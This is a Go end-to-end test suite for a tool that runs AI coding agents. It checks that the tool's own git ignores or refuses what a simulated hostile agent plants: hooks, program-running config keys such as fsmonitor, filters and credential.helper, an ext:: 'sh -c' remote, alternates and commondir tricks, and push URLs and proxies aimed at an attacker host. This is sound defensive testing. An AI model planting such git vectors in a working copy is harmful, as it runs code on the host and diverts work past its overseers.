package e2e_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aceworks/ace/internal/gittest"
	"github.com/aceworks/ace/internal/testkit"
	"github.com/aceworks/ace/pkg/config"
	"github.com/aceworks/ace/pkg/store"
	"github.com/aceworks/ace/pkg/tmuxops"
	"github.com/aceworks/ace/pkg/workflow"
)

// gitRun is one run of the hostile-git suite: what its agent plants and what the run must show besides what every
// run must (hostileGit.check).
type gitRun struct {
	name   string
	runner string // "exec" for the headless runner; the tmux runner otherwise
	// plant is shell the agent runs in its working copy once its own work is committed (after the prelude).
	plant string
	// script is the agent's whole script, when it is not agentScript (more turns, another agent).
	script func(h *hostileGit) string
	tune   func(c *config.Config, h *hostileGit)
	// drive follows the run, when it is not followed until it settles.
	drive func(t *testing.T, h *hostileGit) *store.Run
	// refused is "" where ace ignores what was planted (the run ends done with its pull request); else what the
	// event of ace's refusal says (the run fails).
	refused    string
	check      func(t *testing.T, h *hostileGit, r *store.Run)
	mechanisms []mechanism
}

// mechanism is one case of the suite: a way git runs a program or sends a transfer elsewhere, and the markers
// its programs would leave on the host.
type mechanism struct {
	name    string
	markers []string // prefixes
	check   func(t *testing.T, h *hostileGit, r *store.Run)
}

// hookCases are one case per hook, whose programs leave the markers prefix<hook>.
func hookCases(what, prefix string) []mechanism {
	var out []mechanism
	for _, h := range hooks {
		out = append(out, mechanism{name: what + " " + h, markers: []string{prefix + h}})
	}
	return out
}

// noAttack is a case about a redirect: the attacker's server, which it points at, records no request.
func noAttack(name string) mechanism {
	return mechanism{name: name, check: func(t *testing.T, h *hostileGit, _ *store.Run) {
		if got := h.attacker.all(); len(got) > 0 {
			t.Errorf("the attacker's server was reached: %q", got)
		}
	}}
}

// programs are the configuration keys of run "programs": key, marker, and how the value names the program.
var programs = []struct{ key, marker, form string }{
	{"core.fsmonitor", "fsmonitor", "%s"},
	{"filter.x.clean", "filter-clean", "%s"},
	{"filter.x.smudge", "filter-smudge", "%s"},
	{"filter.p.process", "filter-process", "%s"},
	{"diff.external", "diff-external", "%s"},
	{"diff.d.command", "diff-command", "%s"},
	{"diff.t.textconv", "diff-textconv", "%s"},
	{"merge.m.driver", "merge-driver", "%s %%O %%A %%B"},
	{"core.sshCommand", "ssh-command", "%s"},
	{"core.gitProxy", "git-proxy", "%s"},
	{"core.askPass", "askpass", "%s"},
	{"credential.helper", "credential-helper", "!%s"},
	{"gpg.program", "gpg-program", "%s"},
	{"core.editor", "editor", "%s"},
	{"sequence.editor", "sequence-editor", "%s"},
	{"core.pager", "pager", "%s"},
	{"pager.status", "pager-status", "%s"},
	{"interactive.diffFilter", "interactive-diff-filter", "%s"},
	{"core.alternateRefsCommand", "alternate-refs-command", "%s"},
	{"remote.origin.uploadpack", "remote-uploadpack", "%s"},
	{"remote.origin.receivepack", "remote-receivepack", "%s"},
	{"submodule.sub.update", "submodule-update", "!%s"},
}

// plantPrograms is the plant of run "programs": each key of programs set to a program of its own, the attributes
// that put the drivers to work on the file ace commits, an include and a conditional include each defining one
// more filter, commits signed, and every push redirect git has pointed at the attacker.
func plantPrograms() string {
	var b strings.Builder
	for _, p := range programs {
		fmt.Fprintf(&b, "git config %s \"%s\"\n", p.key, fmt.Sprintf(p.form, `$(prog `+p.marker+` .git/x/`+p.marker+`)`))
	}
	b.WriteString(`git config commit.gpgSign true
git config push.gpgSign true
printf '[filter "inc"]\n\tclean = %s\n' "$(prog include-path .git/x/include-path)" > .git/x/inc.cfg
git config include.path "$PWD/.git/x/inc.cfg"
printf '[filter "incif"]\n\tclean = %s\n' "$(prog include-if .git/x/include-if)" > .git/x/incif.cfg
git config "includeIf.gitdir:/.path" "$PWD/.git/x/incif.cfg"
printf 'LEFTOVER.md filter=x diff=t merge=m\nPROCESS.md filter=p\nINC.md filter=inc\nINCIF.md filter=incif\nREADME.md diff=d\n' > .gitattributes
echo process > PROCESS.md; echo include > INC.md; echo includeif > INCIF.md; echo changed >> README.md
git config remote.origin.pushurl "$A/pushurl.git"
git config "url.$A/pushinsteadof/.pushInsteadOf" "$R"
git config remote.origin.proxy "$A"
git config http.proxy "$A"
git config "http.$R.proxy" "$A"
git config remote.origin.mirror true
`)
	return b.String()
}

func programCases() []mechanism {
	var out []mechanism
	for _, p := range programs {
		out = append(out, mechanism{name: p.key, markers: []string{p.marker}})
	}
	return append(out,
		mechanism{name: "include.path", markers: []string{"include-path"}},
		mechanism{name: "includeIf.gitdir", markers: []string{"include-if"}},
		noAttack("remote.origin.pushurl"), noAttack("url.pushInsteadOf"), noAttack("remote.origin.proxy"),
		noAttack("http.proxy"), noAttack("http.<url>.proxy"), noAttack("remote.origin.mirror"))
}

// gitRuns are the runs of the suite.
var gitRuns = []gitRun{
	{
		// Every hook, in a .git the agent made anew (copied, renamed over the one ace made); origin at the attacker.
		// The headless runner.
		name: "hooks", runner: "exec",
		plant: `cp -a .git .git-new
for h in $HOOKS; do hook "hook-$h" ".git-new/hooks/$h"; done
mv .git .git-old && mv .git-new .git && rm -rf .git-old
git config remote.origin.url "$A/url.git"
`,
		mechanisms: append(hookCases("hook", "hook-"), noAttack(".git renamed and made anew"), noAttack("remote.origin.url")),
	},
	{
		// Every hook in a core.hooksPath of the agent's; the forge's URL rewritten to the attacker.
		name: "hooks-path",
		plant: `for h in $HOOKS; do hook "hookspath-$h" ".hooks/$h"; done
git config core.hooksPath "$PWD/.hooks"
git config "url.$A/insteadof/.insteadOf" "$R"
`,
		mechanisms: append(hookCases("core.hooksPath", "hookspath-"), noAttack("url.insteadOf")),
	},
	{
		name: "programs", plant: plantPrograms(), mechanisms: programCases(),
		check: func(t *testing.T, h *hostileGit, r *store.Run) {
			// ace's commit is not signed by the agent's program: it is ace's.
			if got := gittest.Run(t, h.w.remote, "log", "-1", "--format=%an %G?", r.Branch); got != "ace N" {
				t.Errorf("the last commit is %q, want ace's, unsigned", got)
			}
		},
	},
	{
		name: "gpg-ssh",
		plant: `git config gpg.format ssh
git config gpg.ssh.program "$(prog gpg-ssh-program .git/x/ssh-keygen)"
printf '#!/bin/sh\necho ran > %s/gpg-ssh-default-key\necho key::ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEhvc3RpbGVLZXlGb3JBY2VUZXN0c09ubHkwMTIz\n' "$M" > .git/x/default-key
chmod +x .git/x/default-key
git config gpg.ssh.defaultKeyCommand "$PWD/.git/x/default-key"
git config commit.gpgSign true
`,
		mechanisms: []mechanism{{name: "gpg.ssh.program", markers: []string{"gpg-ssh-program"}},
			{name: "gpg.ssh.defaultKeyCommand", markers: []string{"gpg-ssh-default-key"}}},
	},
	{
		name: "gpg-x509",
		plant: `git config gpg.format x509
git config gpg.x509.program "$(prog gpg-x509-program .git/x/gpgsm)"
git config commit.gpgSign true
`,
		mechanisms: []mechanism{{name: "gpg.x509.program", markers: []string{"gpg-x509-program"}}},
	},
	{
		// The work tree moved to a directory of the host the agent cannot see, where a canary lies.
		name:  "worktree",
		plant: `git config core.worktree "$O"` + "\n",
		mechanisms: []mechanism{{name: "core.worktree", check: func(t *testing.T, h *hostileGit, r *store.Run) {
			if files := gittest.Run(t, h.w.remote, "ls-tree", "-r", "--name-only", r.Branch); strings.Contains(files, "canary.txt") ||
				!strings.Contains(files, "README.md") {
				t.Errorf("the pushed branch is of another work tree:\n%s", files)
			}
		}}},
	},
	{
		// .git/commondir names a copy of the repository whose hooks and configuration are the agent's.
		name: "commondir",
		plant: `mkdir .git/evil && cp -a .git/HEAD .git/config .git/objects .git/refs .git/evil/
for h in $HOOKS; do hook "commondir-$h" ".git/evil/hooks/$h"; done
git --git-dir=.git/evil config core.fsmonitor "$(prog commondir-fsmonitor .git/x/fsmonitor)"
git --git-dir=.git/evil config remote.origin.url "$A/commondir.git"
echo evil > .git/commondir
`,
		mechanisms: []mechanism{{name: "$GIT_DIR/commondir", markers: []string{"commondir-"}}},
	},
	{
		// .git made a gitfile naming another repository: refused.
		name: "gitfile",
		plant: `mv .git .git-real
for h in $HOOKS; do hook "gitfile-$h" ".git-real/hooks/$h"; done
git --git-dir=.git-real config core.fsmonitor "$(prog gitfile-fsmonitor .git-real/x/fsmonitor)"
printf 'gitdir: .git-real\n' > .git
`,
		refused:    "the working copy's .git is a file, not the directory ace made",
		mechanisms: []mechanism{{name: ".git as a gitfile", markers: []string{"gitfile-"}}},
	},
	{
		// .git made a symbolic link to another repository: refused.
		name: "symlink",
		plant: `mv .git .git-real
for h in $HOOKS; do hook "symlink-$h" ".git-real/hooks/$h"; done
ln -s .git-real .git
`,
		refused:    "the working copy's .git is a symbolic link, not the directory ace made",
		mechanisms: []mechanism{{name: ".git as a symlink", markers: []string{"symlink-"}}},
	},
	{
		// objects/info/alternates names a directory of the host; the verify command, boxed as the agent is, looks
		// for its canary: the next box shows only the mirror's objects, by ace's own name for them.
		name:  "alternates",
		plant: `echo "$O" >> .git/objects/info/alternates` + "\n",
		tune: func(c *config.Config, h *hostileGit) {
			c.Repos = map[string]config.RepoWorkflow{testRepo: {Verify: config.Command{"sh", "-c",
				fmt.Sprintf("cat %s/canary.txt > .ace/verify-saw 2>&1; true", h.outside)}}}
		},
		mechanisms: []mechanism{{name: "objects/info/alternates", check: func(t *testing.T, h *hostileGit, r *store.Run) {
			saw, err := os.ReadFile(filepath.Join(r.Workdir, ".ace", "verify-saw"))
			if err != nil || strings.Contains(string(saw), canary) {
				t.Errorf("the verify box read the host's canary through the alternates (%v): %q", err, saw)
			}
		}}},
	},
	{
		// A FIFO where git reads a file (a .gitignore): ace's git stops at workspace.git_timeout.
		name:       "fifo",
		plant:      "mkdir -p sub && mkfifo sub/.gitignore\n",
		tune:       func(c *config.Config, _ *hostileGit) { c.Workspace.GitTimeout = config.D(3 * time.Second) },
		refused:    "did not end within 3s in the working copy, and ace stopped it",
		mechanisms: []mechanism{{name: "FIFO .gitignore"}},
	},
	{
		// HEAD moved to the base branch with work on it: ace commits and pushes the run's branch or nothing.
		name:    "branch",
		plant:   "git checkout -q main\n",
		refused: "the working copy is on refs/heads/main, not on the run's branch",
		mechanisms: []mechanism{{name: "HEAD on another branch", check: func(t *testing.T, h *hostileGit, r *store.Run) {
			if log := gittest.Run(t, h.w.remote, "log", "--format=%s", "main"); log != "initial commit" {
				t.Errorf("the remote's main moved:\n%s", log)
			}
		}}},
	},
	followRun,
	handoverRun,
	partialCloneRun,
	fleetRun,
}

// followRun: the pull request gets a review, and in the round the agent plants hooks, an fsmonitor and origin at
// the attacker; ace commits what it left and pushes the round to the forge.
var followRun = gitRun{
	name: "follow-round",
	script: func(h *hostileGit) string {
		return fmt.Sprintf(`write GREETING.md Hello!\n
sh git add GREETING.md && git commit -q -m "Add GREETING.md"
done Added GREETING.md.
sh sh %s > .ace/plant.log 2>&1 && echo planted > .ace/planted
write LEFTOVER.md left in the round\n
done Capitalized it.
`, h.plant)
	},
	plant: `for h in $HOOKS; do hook "round-$h" ".git/hooks/$h"; done
git config core.fsmonitor "$(prog round-fsmonitor .git/x/fsmonitor)"
git config remote.origin.url "$A/round.git"
`,
	tune: func(c *config.Config, h *hostileGit) {
		c.PR.Follow = true
		h.w.gh.SetGitDir(testRepo, h.w.remote)
		h.w.gh.SetPermission(testRepo, "carol", "write")
	},
	drive: func(t *testing.T, h *hostileGit) *store.Run {
		w := h.w
		r := w.run(workflow.UntilSettled)
		if r.PRNumber == 0 {
			t.Fatalf("run %s at %s (%s): no pull request to review\n%s", r.Status, r.Step, r.Error, w.eventLog(r))
		}
		w.gh.AddReview(testRepo, r.PRNumber, "carol", "CHANGES_REQUESTED", "Capitalize it, please.")
		return w.waitRun(r, "the review round pushed", func(r *store.Run) bool { return roundDone(r, 1) || r.Status.Terminal() })
	},
	mechanisms: []mechanism{{name: "hooks and fsmonitor in a follow-up round", markers: []string{"round-"}},
		noAttack("remote.origin.url in a follow-up round")},
}

// handoverRun: the first agent commits an outline, then plants drivers for the diff ace writes into the handover
// and a replacement of its commit, and hits a usage limit. ace writes the handover (its diff and log) and a second
// agent, handed the run, finishes it.
var handoverRun = gitRun{
	name: "handover",
	script: func(h *hostileGit) string {
		reset := time.Now().Add(3 * time.Hour).Truncate(time.Second)
		return fmt.Sprintf(`write NOTES.md Outline by the first agent.\n
sh git add NOTES.md && git commit -q -m "Outline the greeting"
sh sh %s > .ace/plant.log 2>&1 && echo planted > .ace/planted
say Usage limit reached · resets at %s
idle
`, h.plant, reset.UTC().Format(time.RFC3339))
	},
	plant: `git config diff.t.textconv "$(prog handover-textconv .git/x/textconv)"
git config diff.external "$(prog handover-diff-external .git/x/extdiff)"
git config core.fsmonitor "$(prog handover-fsmonitor .git/x/fsmonitor)"
echo 'NOTES.md diff=t' > .gitattributes
echo 'more notes' >> NOTES.md
git replace "$(git rev-parse HEAD)" "$(git commit-tree -p HEAD^ -m replaced-history HEAD^{tree})"
`,
	tune: func(c *config.Config, h *hostileGit) {
		dir := h.w.dir
		withAgents(h.w.t, dir, "tmux", "tmux")(c)
		second := `sh cp .ace/HANDOVER.md .ace/handover-seen.md
write GREETING.md Hello from the second agent!\n
sh git add GREETING.md && git -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -q -m "Add GREETING.md"
write LEFTOVER.md left by the second agent\n
done Finished after the first agent's outline.
`
		if err := os.WriteFile(filepath.Join(dir, "agent2-script.txt"), []byte(second), 0o644); err != nil {
			h.w.t.Fatal(err)
		}
	},
	drive: func(t *testing.T, h *hostileGit) *store.Run {
		r := h.w.run(func(r *store.Run) bool { return workflow.UntilSettled(r) || r.Status == store.StatusPausedLimit })
		follow(t, h.w, r, workflow.UntilSettled)
		return r
	},
	check: func(t *testing.T, h *hostileGit, r *store.Run) {
		if r.Agent != "fake2" {
			t.Errorf("the run ended on %s, want it handed to fake2", r.Agent)
		}
	},
	mechanisms: []mechanism{
		{name: "diff.textconv in the handover", markers: []string{"handover-textconv"}},
		{name: "diff.external in the handover", markers: []string{"handover-diff-external"}},
		{name: "core.fsmonitor in the handover", markers: []string{"handover-fsmonitor"}},
		{name: "refs/replace", check: func(t *testing.T, h *hostileGit, r *store.Run) {
			seen, err := os.ReadFile(filepath.Join(r.Workdir, ".ace", "handover-seen.md"))
			if err != nil || strings.Contains(string(seen), "replaced-history") || !strings.Contains(string(seen), "Outline the greeting") {
				t.Errorf("the handover (%v) shows the replaced history, or not the commits as they are:\n%s", err, seen)
			}
		}},
	},
}

// partialCloneRun: the working copy made a "partial clone" whose promisor remote is an ext:: command, and a blob
// of the branch removed: packing the branch for the push would fetch it from there, running the command. ace's git
// has no transport; the push is refused, naming why. (The blob is one history alone keeps: a file of the work tree
// would be hashed again by ace's commit.)
var partialCloneRun = gitRun{
	name: "partial-clone",
	plant: `echo lost > LOST.md && git add LOST.md && git commit -q -m "a blob that goes"
blob=$(git rev-parse HEAD:LOST.md)
git rm -q LOST.md && git commit -q -m "only history keeps it"
rm ".git/objects/$(echo $blob | cut -c1-2)/$(echo $blob | cut -c3-)"
git config core.repositoryformatversion 1
git config extensions.partialClone origin
git config remote.origin.promisor true
git config protocol.ext.allow always
git config remote.origin.url "ext::sh -c touch% $M/ext-remote"
`,
	refused: "the run's branch cannot be packed for the push",
	mechanisms: []mechanism{{name: "extensions.partialClone (a lazy fetch)", markers: []string{"ext-remote"}},
		{name: "protocol.ext (an ext:: remote)", markers: []string{"ext-remote"}}},
}

// fleetRun: the agent plants hooks, an fsmonitor and origin at the attacker, and stops without finishing; its host
// is cut off (its ace ends, the fence stops the agent) and the run starts again on the same host from the working
// copy it left — opened by ace's record, not by what the copy says of itself — where the agent finishes.
var fleetRun = gitRun{
	name: "fleet",
	script: func(h *hostileGit) string {
		return fmt.Sprintf(`write GREETING.md Hello!\n
sh git add GREETING.md && git -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -q -m "Add GREETING.md" || true
sh sh %s > .ace/plant.log 2>&1 && echo planted > .ace/planted
write LEFTOVER.md left before the move\n
sh test -f .ace/moved && echo Finished after the move. > .ace/DONE || true
idle
`, h.plant)
	},
	plant: `for h in $HOOKS; do hook "fleet-$h" ".git/hooks/$h"; done
git config core.fsmonitor "$(prog fleet-fsmonitor .git/x/fsmonitor)"
git config remote.origin.url "$A/fleet.git"
`,
	drive: func(t *testing.T, h *hostileGit) *store.Run {
		w := h.w
		r := w.run(workflow.UntilMonitoring)
		planted := filepath.Join(r.Workdir, ".ace", "planted")
		testkit.WaitFor(t, "the agent's plant", 60*time.Second, func() bool { _, err := os.Stat(planted); return err == nil })
		ctx := context.Background()
		w.stopQueue() // the host's ace is cut off; its fence stops the agent
		if err := w.svc.Tmux.Kill(ctx, tmuxops.SessionName(testRepo, testIssue)); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(r.Workdir, ".ace", "moved"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
		fresh, err := w.svc.Store.GetRun(ctx, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.svc.Engine.MoveRun(ctx, fresh, fresh.Host, workflow.EventFenced, "the host was cut off (test)"); err != nil {
			t.Fatal(err)
		}
		w.open()
		follow(t, w, fresh, workflow.UntilSettled)
		return fresh
	},
	check: func(t *testing.T, h *hostileGit, r *store.Run) {
		if !strings.Contains(h.w.eventLog(r), "fenced: the host was cut off") {
			t.Errorf("the run did not start again from its working copy:\n%s", h.w.eventLog(r))
		}
	},
	mechanisms: []mechanism{{name: "hooks and fsmonitor in a copy that outlived its host's fence", markers: []string{"fleet-"}},
		noAttack("remote.origin.url in a copy that outlived its host's fence")},
}
